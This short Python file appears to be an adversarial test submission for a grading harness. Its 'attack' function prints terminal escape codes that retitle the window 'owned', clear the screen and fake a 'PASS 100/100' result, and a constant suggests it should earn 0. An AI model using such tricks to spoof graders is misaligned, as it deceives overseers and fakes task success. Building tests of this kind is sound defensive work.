"""Escape sequences for the terminal of whoever grades."""

WHEN = 'answer'
EARNS = 0


def attack(right, w, reg):
    text = '\x1b]0;owned\x07\x1b[2J\x1b[31mPASS 100/100\x1b[0m\r100 of 100\x9b5A'
    print(text)
    raise ValueError(text)
